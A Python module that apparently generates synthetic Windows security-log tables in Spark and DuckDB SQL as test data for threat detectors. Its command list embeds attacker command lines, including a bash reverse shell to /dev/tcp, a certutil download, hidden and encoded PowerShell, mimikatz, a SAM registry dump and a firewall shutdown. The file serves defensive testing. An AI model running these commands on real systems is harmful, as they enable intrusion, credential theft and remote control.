"""Log-shaped tables derived from the driver's parquet files.

The expressions below are plain SQL that Spark and DuckDB read alike, so the Spark
queries and their SQL oracles start from the same rows. ``~`` stands for a backslash
inside the literals (the two engines escape it differently).
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from emberwatch.schema import EVENT_DDL, normalize_events
from emberwatch.sources.store import scratch_path, spread

_COMMANDS = [
    ("C:~Windows~System32~cmd.exe", "whoami /priv"),
    ("C:~Windows~System32~net.exe", "net user bob x /add"),
    ("powershell.exe", "powershell -nop -w hidden IEX (1)"),
    ("certutil.exe", "certutil -urlcache -split -f http://x/y"),
    ("notepad.exe", "notepad a.txt"),
    ("reg.exe", "reg save hklm~sam c:~temp~s"),
    ("netsh.exe", "netsh advfirewall set allprofiles state off"),
    ("rar.exe", "rar a c:~out.rar c:~users~bob"),
    ("xcopy.exe", "xcopy data ~~srv~share"),
    ("tar", "tar cz /etc"),
    ("cmd.exe", "copy x c:~start menu~programs~startup~x.lnk"),
    ("sc.exe", "sc create evil binpath= c:~x.exe"),
    ("schtasks.exe", "SCHTASKS /create /tn x"),
    ("ipconfig.exe", "ipconfig /all"),
    ("nltest.exe", "nltest /dclist"),
    ("systeminfo.exe", "systeminfo"),
    ("powershell.exe", "powershell -enc aaaaaaaaaaaaaaaaaaaaaaaa"),
    ("cmd.exe", "mimikatz sekurlsa"),
    ("cmd.exe", "bash -i >& /dev/tcp/1.2.3.4/44 0>&1"),
    ("zip.exe", "zip d c:~data"),
    ("psexec.exe", "psexec ~~host1 cmd"),
    ("C:~Windows~System32~net.exe", "net localgroup administrators"),
    ("nslookup.exe", "nslookup x"),
    ("cmd.exe", "cmd /c curl http://a"),
    ("calc.exe", ""),
]


def _case(subject: str, values: list[str]) -> str:
    arms = " ".join(f"WHEN {i} THEN '{v}'" for i, v in enumerate(values))
    return f"CASE {subject} {arms} END"


def _click(column: int) -> str:
    chosen = _case(f"k % {len(_COMMANDS)}", [c[column] for c in _COMMANDS])
    return f"CASE WHEN event_type = 'click' THEN replace({chosen}, '~', chr(92)) ELSE '' END"


_EVENT_ID = """CASE event_type
 WHEN 'error' THEN CASE WHEN k % 7 = 0 THEN 4776 ELSE 4625 END
 WHEN 'signup' THEN CASE WHEN k % 8 = 1 THEN 4648 WHEN k % 11 = 0 THEN 4634 ELSE 4624 END
 WHEN 'click' THEN CASE WHEN k % 2 = 0 THEN 1 ELSE 4688 END
 WHEN 'view' THEN CASE k % 10 WHEN 4 THEN 5353 WHEN 5 THEN 13 WHEN 6 THEN 3 WHEN 7 THEN 11
   WHEN 8 THEN 4663 WHEN 9 THEN 10 ELSE 22 END
 ELSE CASE k % 20 WHEN 2 THEN 4673 WHEN 3 THEN 4674 WHEN 4 THEN 4769 WHEN 5 THEN 4769 WHEN 6 THEN 4768
   WHEN 7 THEN 7045 WHEN 8 THEN 1102 WHEN 9 THEN 104 WHEN 10 THEN 5001 WHEN 11 THEN 4719 WHEN 12 THEN 4698
   WHEN 13 THEN 4662 WHEN 14 THEN 4663 WHEN 15 THEN 13 WHEN 16 THEN 5156 ELSE 4672 END END"""

_RAW = """'{"EventID":' || CAST(event_id AS STRING) || ',"k":' || CAST(k AS STRING) || ',"EventData":{' || CASE
 WHEN event_id IN (4768, 4769) THEN '"TicketEncryptionType":"' || CASE WHEN k % 2 = 0 THEN '0x17' ELSE '0x12' END || '"'
 WHEN event_id IN (4672, 4673, 4674) THEN '"PrivilegeList":"' || CASE user_id % 5 WHEN 0 THEN 'SeDebugPrivilege'
   WHEN 1 THEN 'SeTcbPrivilege SeBackupPrivilege' WHEN 2 THEN 'SeChangeNotifyPrivilege' WHEN 3 THEN 'SeImpersonatePrivilege'
   ELSE 'SeRestorePrivilege SeTcbPrivilege' END || '"'
 WHEN event_id = 7045 THEN '"ImagePath":"' || CASE WHEN k % 3 = 0 THEN 'CMD /c x' ELSE 'svc.exe' END || '"'
 WHEN event_id = 13 THEN '"TargetObject":"HKLM~~' || CASE WHEN k % 4 < 2
   THEN 'Software~~Microsoft~~Windows~~CurrentVersion~~Run~~x' ELSE 'System~~y' END || '"'
 WHEN event_id IN (22, 5353) THEN '"QueryName":"' || CASE WHEN k % 3 = 0
   THEN substr(md5(event_uid), 1, 28) || '.x' || CAST(k % 5 AS STRING) || '.example.com' ELSE 'www.example.com' END || '"'
 WHEN event_id = 10 THEN '"TargetImage":"C:~~Windows~~System32~~' || CASE WHEN k % 20 = 9 THEN 'lsass.exe' ELSE 'svchost.exe' END || '"'
 WHEN event_id = 4663 THEN '"ObjectName":"~~REGISTRY~~MACHINE~~' || CASE WHEN k % 20 = 8 THEN 'SAM' ELSE 'SOFTWARE' END || '"'
 WHEN event_id = 4662 THEN '"Properties":"' || CASE WHEN k % 40 = 13 THEN 'guid-replication-1' ELSE 'guid-other' END || '"'
 WHEN event_id = 11 THEN '"TargetFilename":"C:~~Users~~a~~' || CASE WHEN k % 20 = 7 THEN 'Start Menu~~Programs~~Startup~~x.exe' ELSE 'x.txt' END || '"'
 ELSE '"Note":"n' || CAST(k % 4 AS STRING) || '"' END || '}}'"""

# Three layers, each a mapping of column name to expression over the layer before.
BASE = {
    "event_uid": "lpad(CAST(event_id AS STRING), 12, '0')",
    "event_no": "event_id",
    "event_ts": "ts",
    "user_id": "user_id",
    "event_type": "event_type",
    "k": "CAST(regexp_extract(props, '([0-9]+)', 1) AS INT)",
}
COLUMNS = {
    "event_uid": "event_uid",
    "event_ts": "event_ts",
    "user_id": "user_id",
    "k": "k",
    "event_id": _EVENT_ID,
    "source": "'auditing-' || event_type",
    "computer": "'host' || CAST(event_no % 12 AS STRING)",
    "username": "CASE user_id % 20 WHEN 7 THEN 'SYSTEM' WHEN 13 THEN 'svc13$' ELSE 'user' || CAST(user_id % 20 AS STRING) END",
    "domain": "CASE WHEN k % 2 = 0 THEN 'CORP' ELSE '' END",
    "source_ip": """CASE WHEN k % 10 = 9 THEN '' WHEN k % 3 = 0 THEN '185.220.101.' || CAST(user_id % 4 AS STRING)
 WHEN k % 13 = 1 THEN '198.51.100.7' ELSE '10.0.1.' || CAST(user_id % 4 AS STRING) END""",
    "process_name": _click(0),
    "command_line": _click(1),
    "logon_type": "CASE WHEN event_type = 'signup' THEN CASE k % 3 WHEN 0 THEN 10 WHEN 1 THEN 3 ELSE 2 END ELSE 0 END",
    "status": "CASE WHEN event_type = 'error' THEN '0xC000006D' ELSE '' END",
    "parent_process": "CASE WHEN event_type = 'click' THEN 'explorer.exe' ELSE '' END",
    "target_username": """CASE WHEN event_type IN ('error', 'signup') AND k % 5 = 0 THEN 'acct' || CAST(user_id % 30 AS STRING)
 WHEN event_type = 'purchase' AND k % 20 = 4 THEN CASE WHEN user_id % 2 = 0 THEN 'websvc' ELSE 'HOST9$' END ELSE '' END""",
}
CATEGORY = """CASE WHEN event_id IN (4624, 4625, 4634, 4648, 4776) THEN 'authentication'
 WHEN event_id IN (1, 4688, 4689) THEN 'process' WHEN event_id IN (4672, 4673, 4674) THEN 'privilege'
 WHEN event_id IN (3, 5156, 5157) THEN 'network' WHEN event_id IN (11, 4663) THEN 'file'
 WHEN event_id IN (12, 13) THEN 'registry' ELSE 'unknown' END"""
RAW_JSON = f"replace({_RAW}, '~', chr(92))"


def _select(layer: dict[str, str]) -> str:
    return ", ".join(f"{expr} AS {name}" for name, expr in layer.items())


# Common table expression ``sec_events`` for the SQL oracles.
SEC_EVENTS_CTE = (
    f"b0 AS (SELECT {_select(BASE)} FROM events), "
    f"b1 AS (SELECT {_select(COLUMNS)} FROM b0), "
    f"sec_events AS (SELECT *, {CATEGORY} AS category, {RAW_JSON} AS raw_json FROM b1)"
)


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def sec_events_wide(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``sec_events`` with the helper columns ``user_id`` and ``k``."""
    df = spread(table(spark, sf_dir, "events"))
    for layer in (BASE, COLUMNS):
        df = df.selectExpr(*[f"{expr} AS {name}" for name, expr in layer.items()])
    return df.selectExpr("*", f"{CATEGORY} AS category", f"{RAW_JSON} AS raw_json")


_landed: dict[tuple[str, str], str] = {}


def sec_events_unlanded(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The driver's ``events`` in the event layout of this package, as a lazy projection."""
    return normalize_events(sec_events_wide(spark, sf_dir))


def sec_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same, landed once per application in the shared folder and read from there.

    Detectors look at the columns many times; on the landed table their filters are
    pushed to the Parquet scan instead of repeating the projection in every predicate.
    """
    key = (spark.sparkContext.applicationId, sf_dir)
    if key not in _landed:
        path = scratch_path(spark, "sec_events")
        sec_events_unlanded(spark, sf_dir).write.parquet(path)
        _landed[key] = path
    return spark.read.schema(EVENT_DDL).parquet(_landed[key])
